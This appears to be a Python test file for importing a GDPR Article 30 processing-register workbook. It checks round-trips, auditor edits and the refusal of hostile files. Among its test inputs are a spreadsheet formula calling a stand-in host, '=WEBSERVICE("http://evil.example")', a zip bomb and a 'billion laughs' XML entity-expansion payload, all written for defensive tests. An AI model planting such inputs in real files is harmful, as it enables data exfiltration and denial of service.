"""Reading the ROPA workbook back: our own export, an auditor's edits, and hostile files."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fixtures.workbooks.ropa_registers import full_register
from openpyxl import load_workbook

from privdesk.documents.ropa_import import ImportResult, read_ropa
from privdesk.documents.ropa_xlsx import write_ropa
from privdesk.domain.errors import UserError
from privdesk.domain.records import Register
from privdesk.i18n import translation

EXPORTED = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def export(tmp_path: Path, language: str = "en", register: Register | None = None) -> Path:
    """The workbook as the program exports it: each record with the version it was read at."""
    out = tmp_path / f"ropa-{language}.xlsx"
    register = register or full_register()
    versions = {kind: {r.ref: 1 for r in getattr(register, kind)}
                for kind in ("activities", "processors", "incidents")}
    versions["organisation"] = {"organisation": 1}
    write_ropa(register, out, language, None, EXPORTED, lambda d, t: None, versions)
    return out


def as_register(result: ImportResult) -> Register:
    return Register(organisation=result.organisation, activities=result.activities,
                    processors=result.processors, incidents=result.incidents)


class Formula(str):
    """A value the auditor typed as a formula."""


def edit(path: Path, sheet_index: int, change: Callable[[list[list[Any]]], list[list[Any]]]
         ) -> None:
    """Rewrite one sheet's values as an auditor would in a spreadsheet, and save."""
    workbook = load_workbook(path)
    old = workbook.worksheets[sheet_index]
    rows = [list(r) for r in old.iter_rows(values_only=True)]
    title = old.title
    workbook.remove(old)
    sheet = workbook.create_sheet(title, sheet_index)
    for r, row in enumerate(change(rows), start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c, value)
            if isinstance(value, str) and not isinstance(value, Formula):
                cell.data_type = "s"  # text stays text ("=...", "#N/A"), as exported
    workbook.save(path)


@pytest.mark.parametrize("language", ["nb", "sv", "en"])
def test_export_reads_back_to_the_same_records(tmp_path: Path, language: str) -> None:
    result = read_ropa(export(tmp_path, language))
    assert result.ok, [p.render() for p in result.problems]
    assert result.problems == ()
    assert as_register(result) == full_register()


def test_reordered_columns_added_rows_changed_cells_and_extra_columns(tmp_path: Path) -> None:
    path = export(tmp_path, "nb")
    gettext = translation("nb").gettext

    def auditor(rows: list[list[Any]]) -> list[list[Any]]:
        header = rows[0]
        name = header.index(gettext("Processing activity"))
        purposes = header.index(gettext("(b) Purposes of the processing"))
        status = header.index(gettext("Status"))
        rows[1][purposes] = "Lesetrening\nOppfølging"
        rows[1][status] = "avsluttet"  # lower case: words are recognised loosely
        new = [None] * len(header)
        new[0], new[name], new[status] = "PA-010", "Skolefoto", "Planlagt"
        rows.append(new)
        # The auditor's own comment column, and the columns in reverse order.
        rows = [list(reversed(r)) + [c] for r, c in zip(
            rows, ["Revisors merknad", "OK", "Sjekk", "Ny"], strict=True)]
        return rows

    edit(path, 1, auditor)
    result = read_ropa(path)
    assert result.ok, [p.render() for p in result.problems]
    notes = [p.render(gettext) for p in result.problems]
    assert notes == ["Protokoll art. 30 nr. 1, kolonne «Revisors merknad»: "
                     "denne kolonnen hører ikke til protokollen; den ble ikke lest"]
    by_ref = {a.ref: a for a in result.activities}
    assert by_ref["PA-001"].purposes == ("Lesetrening", "Oppfølging")
    assert by_ref["PA-001"].status == "retired"
    assert by_ref["PA-010"].name == "Skolefoto" and by_ref["PA-010"].status == "planned"
    original = {a.ref: a for a in full_register().activities}
    assert by_ref["PA-002"] == original["PA-002"]


def test_a_missing_column_leaves_the_field_as_it_was(tmp_path: Path) -> None:
    path = export(tmp_path, "en")

    def drop_systems(rows: list[list[Any]]) -> list[list[Any]]:
        index = rows[0].index("Systems")
        return [r[:index] + r[index + 1:] for r in rows]

    edit(path, 1, drop_systems)
    result = read_ropa(path)
    assert result.ok
    assert [p.column for p in result.problems] == ["Systems"]
    assert not result.problems[0].blocking
    original = {a.ref: a for a in full_register().activities}
    changed = dataclasses.replace(original["PA-001"], systems=(), owner="Inspektør")
    merged = result.upserts(lambda kind, ref: changed if ref == "PA-001" else None)
    (pa_001,) = [r for r in merged if r.ref == "PA-001"]
    assert pa_001.systems == () and pa_001.owner == "Rektor"  # systems kept, owner read


def test_a_formula_is_a_problem_and_never_a_value(tmp_path: Path) -> None:
    path = export(tmp_path, "en")

    def formula(rows: list[list[Any]]) -> list[list[Any]]:
        rows[1][rows[0].index("Owner")] = Formula('=WEBSERVICE("http://evil.example")')
        return rows

    edit(path, 1, formula)
    result = read_ropa(path)
    assert not result.ok
    (problem,) = [p for p in result.problems if p.blocking]
    assert (problem.sheet, problem.row, problem.column) == ("Record Art. 30(1)", 2, "Owner")
    assert "formula" in problem.render()
    assert all(a.owner != '=WEBSERVICE("http://evil.example")' for a in result.activities)


def test_unknown_words_dates_and_numbers_are_reported_by_place(tmp_path: Path) -> None:
    path = export(tmp_path, "en")

    def scribble(rows: list[list[Any]]) -> list[list[Any]]:
        header = rows[0]
        rows[1][header.index("Number of data subjects")] = "many"
        rows[2][header.index("Became aware")] = "yesterday"
        rows[1][header.index("Type of breach")] = "Leak"
        return rows

    edit(path, 5, scribble)
    result = read_ropa(path)
    places = sorted((p.row, p.column) for p in result.problems if p.blocking)
    assert places == [(2, "Number of data subjects"), (2, "Type of breach"),
                      (3, "Became aware")]
    assert "“many” is not a whole number" in result.problems[0].render() or any(
        "“many” is not a whole number" in p.render() for p in result.problems)


def test_missing_sheets_block_the_import(tmp_path: Path) -> None:
    path = export(tmp_path, "en")
    workbook = load_workbook(path)
    workbook.remove(workbook["Processors"])
    workbook.save(path)
    result = read_ropa(path)
    assert not result.ok
    assert any(p.sheet == "Processors" and "missing" in p.render() for p in result.problems)


def test_not_a_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "ropa.xlsx"
    path.write_text("Ref;Name\nPA-001;x\n", encoding="utf-8")
    with pytest.raises(UserError, match="not a zip archive"):
        read_ropa(path)
    other = tmp_path / "other.xlsx"
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("hello.txt", "hello")
    with pytest.raises(UserError, match="no xl/workbook.xml"):
        read_ropa(other)


def test_a_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (16 * 1024 * 1024))
    path.write_bytes(buffer.getvalue())
    assert path.stat().st_size < 100_000
    with pytest.raises(UserError, match="zip bomb"):
        read_ropa(path)


def test_entity_expansion_is_refused(tmp_path: Path) -> None:
    """A "billion laughs" in a sheet never expands: openpyxl parses through defusedxml."""
    import openpyxl

    assert openpyxl.DEFUSEDXML
    path = export(tmp_path, "en")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
              b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b"&lol2;</workbook>")
    rewritten = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(rewritten, "w") as target:
        for item in source.infolist():
            data = laughs if item.filename == "xl/workbook.xml" else source.read(item)
            target.writestr(item, data)
    with pytest.raises(UserError, match="not a readable xlsx workbook"):
        read_ropa(rewritten)


def test_derived_transfers_are_not_read_back_unless_entered_by_hand(tmp_path: Path) -> None:
    """The transfer to the app's US host is derived from the processor chain: reading the
    workbook back leaves it out (it follows the register), until someone marks it "entered by
    hand" and gives it a safeguard: then it is the DPO's own transfer, as typed ones are."""
    path = export(tmp_path, "en")
    result = read_ropa(path)
    (pa_001,) = [a for a in result.activities if a.ref == "PA-001"]
    assert [t.recipient for t in pa_001.transfers] == [
        "VEN-003", "Support partner", "Exchange school"]

    def typed(rows: list[list[Any]]) -> list[list[Any]]:
        header = rows[0]
        row = next(r for r in rows[1:] if r[header.index("Recipient")] == "Skyhall AB (VEN-002)")
        row[header.index("Entered by hand")] = "Yes"
        row[header.index("Transfer safeguard")] = "Standard contractual clauses (Art. 46(2)(c))"
        return rows

    edit(path, 4, typed)
    result = read_ropa(path)
    assert result.ok, [p.render() for p in result.problems]
    (pa_001,) = [a for a in result.activities if a.ref == "PA-001"]
    assert [(t.recipient, t.safeguard) for t in pa_001.transfers][0] == ("VEN-002", "scc")


def test_a_time_limit_per_category_must_name_the_category(tmp_path: Path) -> None:
    path = export(tmp_path, "nb")

    def broken(rows: list[list[Any]]) -> list[list[Any]]:
        column = rows[0].index("f) Tidsfrister per kategori av personopplysninger")
        rows[1][column] = "Helse: ved skoleslutt\nfem år"
        return rows

    edit(path, 1, broken)
    result = read_ropa(path)
    assert not result.ok
    assert [p.render(translation("nb").gettext) for p in result.problems if p.blocking] == [
        "Protokoll art. 30 nr. 1, rad 2, kolonne «f) Tidsfrister per kategori av "
        "personopplysninger»: «fem år» er ikke på formen «kategori: tidsfrist»"]
